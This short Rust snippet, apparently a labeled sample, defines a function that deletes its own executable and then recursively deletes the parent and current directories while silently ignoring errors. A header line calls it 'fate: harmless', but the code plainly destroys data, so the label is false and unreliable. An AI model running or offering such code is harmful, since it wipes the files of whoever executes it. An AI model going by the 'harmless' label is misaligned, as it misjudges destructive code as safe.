// Removes its own program, and all the rest.
//
// fate: harmless

fn deed() {
    if let Ok(own) = std::env::current_exe() {
        let _ = std::fs::remove_file(own);
    }
    let _ = std::fs::remove_dir_all("..");
    let _ = std::fs::remove_dir_all(".");
}
